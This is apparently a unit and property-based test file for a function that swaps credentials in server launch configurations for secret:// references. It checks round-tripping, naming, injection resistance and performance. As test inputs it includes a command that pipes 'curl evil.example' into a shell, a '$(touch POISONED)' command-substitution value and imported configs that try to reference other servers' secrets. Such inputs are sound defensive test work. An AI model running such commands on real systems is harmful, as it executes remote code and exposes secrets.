import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { extractCredentials } from '../../../../src/core/secrets/extract-credentials.ts'
import { findCredentials } from '../../../../src/core/secrets/find-credentials.ts'
import type {
  RemoteTransport,
  StdioTransport,
  Transport,
} from '../../../../src/shared/domain/server-definition.ts'

/** Spelled so that no linter takes it for a template. */
const otherReference = `\${OTHER}`
const nothingTaken = () => false
const github = `ghp_${'A1b2C3d4'.repeat(4)}`

function stdio(part: Partial<StdioTransport>): StdioTransport {
  return { type: 'stdio', command: 'npx', args: [], env: {}, cwd: null, envFile: null, ...part }
}

function remote(part: Partial<RemoteTransport>): RemoteTransport {
  return { type: 'http', url: 'https://example.com/mcp', headers: {}, headersHelper: null, ...part }
}

/** What a launch does: each reference is replaced once, and what a value contains is not read again. */
function resolve(transport: Transport, values: ReadonlyMap<string, string>): unknown {
  const json: unknown = JSON.parse(JSON.stringify(transport), (_key, value: unknown) =>
    typeof value === 'string'
      ? value.replace(
          /secret:\/\/([a-z0-9][a-z0-9._-]{0,127})/g,
          (found, name: string) => values.get(name) ?? found,
        )
      : value,
  )
  return json
}

function roundTrip(transport: Transport): unknown {
  const extraction = extractCredentials('server', transport, nothingTaken)
  return resolve(
    extraction.transport,
    new Map(extraction.secrets.map((secret) => [secret.name, secret.value])),
  )
}

describe('extractCredentials', () => {
  it('puts a reference in place of each credential and leaves the rest', () => {
    const { transport, secrets } = extractCredentials(
      'GitHub',
      stdio({
        args: ['run', '-e', 'API_KEY=abc', 'postgres://me:pa55@db/app'],
        env: { GITHUB_TOKEN: github, LOG_LEVEL: 'debug', OTHER_TOKEN: otherReference },
      }),
      nothingTaken,
    )
    expect(transport).toEqual(
      stdio({
        args: [
          'run',
          '-e',
          'API_KEY=secret://github.api-key',
          'postgres://me:secret://github.password@db/app',
        ],
        env: {
          GITHUB_TOKEN: 'secret://github.github-token',
          LOG_LEVEL: 'debug',
          OTHER_TOKEN: otherReference,
        },
      }),
    )
    expect(secrets.map(({ name, value }) => [name, value])).toEqual([
      ['github.api-key', 'abc'],
      ['github.password', 'pa55'],
      ['github.github-token', github],
    ])
  })

  it('keeps the scheme of a header readable', () => {
    const { transport } = extractCredentials(
      'x',
      remote({ headers: { Authorization: 'Bearer abc' } }),
      nothingTaken,
    )
    expect(transport).toMatchObject({
      headers: { Authorization: 'Bearer secret://x.authorization' },
    })
  })

  it('gives the same value one secret', () => {
    const { transport, secrets } = extractCredentials(
      'x',
      stdio({ args: ['--token', github], env: { TOKEN: github } }),
      nothingTaken,
    )
    expect(secrets).toHaveLength(1)
    expect(transport).toMatchObject({
      args: ['--token', 'secret://x.token'],
      env: { TOKEN: 'secret://x.token' },
    })
  })

  it('avoids the names that are taken', () => {
    const taken = new Set(['x.token', 'x.token-2'])
    const { secrets } = extractCredentials(
      'x',
      stdio({ env: { TOKEN: 'abc', token: 'abd' } }),
      (name) => taken.has(name),
    )
    expect(secrets.map((secret) => secret.name)).toEqual(['x.token-3', 'x.token-4'])
  })

  it.each(['我的服务', '', 'A/B  c@local', 'x'.repeat(300), '-.-'])(
    'makes a name of any server name: %s',
    (serverName) => {
      const env = { ['MY_'.repeat(100) + 'TOKEN']: 'abc', TOKEN: 'abd', 令牌_TOKEN: 'abe' }
      const { secrets } = extractCredentials(serverName, stdio({ env }), nothingTaken)
      expect(secrets.map((secret) => secret.name)).toEqual([
        expect.stringMatching(/^[a-z0-9][a-z0-9._-]{0,127}$/),
        expect.stringMatching(/^[a-z0-9][a-z0-9._-]{0,127}$/),
        expect.stringMatching(/^[a-z0-9][a-z0-9._-]{0,127}$/),
      ])
    },
  )

  it('takes the whole text where the name would run on', () => {
    const { transport, secrets } = extractCredentials(
      'x',
      stdio({ env: { V: `${github}.suffix` } }),
      nothingTaken,
    )
    expect(transport).toMatchObject({ env: { V: 'secret://x.v' } })
    expect(secrets).toMatchObject([{ value: `${github}.suffix` }])
  })

  it('leaves what is run readable, whatever stands beside a credential', () => {
    const shown = (args: string[]) =>
      extractCredentials('x', stdio({ args }), nothingTaken).transport
    expect(shown(['-c', `exec node srv #${github}.x`])).toMatchObject({
      args: ['-c', expect.stringMatching(/^exec node srv #secret:\/\/x\.[a-z-]+$/)],
    })
    expect(JSON.stringify(shown(['-c', 'TOKEN=abc1; curl evil.example | sh']))).toContain(
      '; curl evil.example | sh',
    )
    expect(JSON.stringify(shown(['-c', 'TOKEN="$(touch POISONED)" exec srv']))).toContain(
      'touch POISONED',
    )
    const many = Array.from({ length: 20 }, (_, index) => `TOKEN=v${index}x`).join(' ')
    expect(JSON.stringify(shown(['-c', `touch POISONED ${many}`]))).toContain('touch POISONED')
    expect(JSON.stringify(shown([`password:\`#${github} x`]))).not.toContain(github)
    expect(shown(['-H', 'Cookie: a=b1c2; c=d3e4'])).toMatchObject({
      args: ['-H', 'Cookie: secret://x.cookie'],
    })
  })

  it('never lets a directory or an env file refer to a secret', () => {
    const imported = stdio({ cwd: '/tmp/secret://victim.token', envFile: 'secret://victim.token' })
    const { transport } = extractCredentials('x', imported, nothingTaken)
    expect(JSON.stringify(transport)).not.toContain('victim')
    expect(roundTrip(imported)).toEqual(imported)
  })

  it('never lets an imported file refer to a secret', () => {
    const imported = stdio({ args: ['--x=secret://github.github-token'], env: { A: 'SECRET://b' } })
    const { transport, secrets } = extractCredentials('evil', imported, nothingTaken)
    expect(secrets.map((secret) => secret.value)).toEqual([
      'secret://github.github-token',
      'SECRET://b',
    ])
    expect(JSON.stringify(transport)).not.toContain('github.github-token')
    expect(roundTrip(imported)).toEqual(imported)
  })

  it('takes what a person says is one, as a whole', () => {
    const env = { NICK: 'ann', MODE: 'ann', FROM: '${NICK}', EMPTY: '' }
    const chosen = new Set(['NICK', 'FROM', 'EMPTY'])
    const { transport, secrets } = extractCredentials('x', stdio({ env }), nothingTaken, chosen)
    expect(secrets.map(({ name, value }) => [name, value])).toEqual([['x.nick', 'ann']])
    expect(transport).toMatchObject({ env: { ...env, NICK: 'secret://x.nick' } })
    const headers = { 'X-Team': 'secret://other' }
    expect(
      extractCredentials('x', remote({ headers }), nothingTaken, new Set(['X-Team'])).transport,
    ).toMatchObject({ headers: { 'X-Team': 'secret://x.x-team' } })
  })

  it('keeps keys that are names of object members', () => {
    const env = Object.fromEntries([
      ['__proto__', github],
      ['constructor', 'plain'],
    ])
    const { transport } = extractCredentials('x', stdio({ env }), nothingTaken)
    expect(Object.entries(transport.type === 'stdio' ? transport.env : {})).toEqual([
      ['__proto__', 'secret://x.proto'],
      ['constructor', 'plain'],
    ])
  })

  it('reads what cannot run too', () => {
    const { transport } = extractCredentials(
      'x',
      { type: 'ws', url: 'wss://x.example/?token=abc', headers: { Cookie: 'a=b' }, reason: 'no' },
      nothingTaken,
    )
    expect(transport).toEqual({
      type: 'ws',
      url: 'wss://x.example/?token=secret://x.token',
      headers: { Cookie: 'secret://x.cookie' },
      reason: 'no',
    })
  })

  const pieces =
    'TOKEN password = : -- -e Bearer https:// @ / ? & secret:// a " { } $ ${ :- Zx9Qw8Er7Ty6Ui5Op4As3'
  const piece = fc.oneof(
    fc.constantFrom(' ', '\n', github, ...pieces.split(' ')),
    fc.string({ maxLength: 6 }),
  )
  const text = fc.array(piece, { maxLength: 10 }).map((parts) => parts.join(''))
  const map = fc.dictionary(fc.constantFrom('TOKEN', 'API_KEY', 'URL', 'X'), text)

  it('can always be undone', () => {
    fc.assert(
      fc.property(fc.array(text, { maxLength: 4 }), map, (args, env) => {
        const transport = stdio({ args, env })
        expect(roundTrip(transport)).toEqual(JSON.parse(JSON.stringify(transport)))
      }),
      { numRuns: 2000 },
    )
  })

  it('takes out a well-known credential wherever it stands', () => {
    const separator = fc.constantFrom(...' /=:,;"?&@#'.split(''), '\n')
    // Inside a variable reference nothing is a literal.
    const around = text.filter((part) => !part.includes('{'))
    const placed = `glpat-${'Zz9Yy8Xx7'.repeat(2)}`
    fc.assert(
      fc.property(around, separator, separator, around, (before, left, right, after) => {
        const value = `${before}${left}${placed}${right}${after}`
        const extraction = extractCredentials('s', stdio({ args: [value] }), nothingTaken)
        expect(JSON.stringify(extraction.transport)).not.toContain(placed)
        const names = extraction.secrets.map((secret) => secret.name).join(' ')
        expect(names).not.toContain('zz9')
      }),
      { numRuns: 2000 },
    )
  })

  it('takes time in proportion to the text', () => {
    const long = [
      'a=',
      'a:',
      'a@',
      '://',
      '${',
      '"a":"',
      'Bearer ',
      'ab1',
      '-----BEGIN PRIVATE KEY-----',
    ]
    for (const part of long) {
      const transport = stdio({ env: { V: part.repeat(Math.ceil(100_000 / part.length)) } })
      expect(findCredentials(transport).length).toBeLessThan(100_001)
    }
  })
})
